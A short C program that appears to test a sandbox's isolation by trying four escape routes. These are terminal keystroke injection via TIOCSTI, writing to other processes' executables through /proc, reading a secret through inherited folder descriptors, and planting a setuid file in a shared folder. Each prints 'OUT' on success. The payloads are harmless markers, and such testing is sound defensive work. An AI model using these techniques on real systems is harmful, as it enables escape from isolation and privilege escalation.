/* escape WAY: one way out; says what it got hold of. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words)
{
    const char *way = count > 1 ? words[1] : "";
    if (!strcmp(way, "type")) /* into the terminal that we were started from */
        for (const char *c = "touch /escaped\n"; *c; c++)
            ioctl(0, TIOCSTI, c);
    if (!strcmp(way, "executables")) /* write to the programs of all processes that we can see */
        for (int pid = 1; pid < 70000; pid++) {
            char path[32];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            if (open(path, O_WRONLY | O_APPEND) >= 0)
                puts("OUT");
        }
    if (!strcmp(way, "descriptors")) /* a folder that our caller had open */
        for (int fd = 3; fd < 1024; fd++) {
            int secret = openat(fd, "secret", O_RDONLY);
            if (secret >= 0)
                puts("OUT");
        }
    if (!strcmp(way, "setuid")) /* a file in the folder that is bound in */
        if (open("/shared/setuid", O_CREAT | O_WRONLY, 0755) >= 0)
            chmod("/shared/setuid", 04755);
    return 0;
}
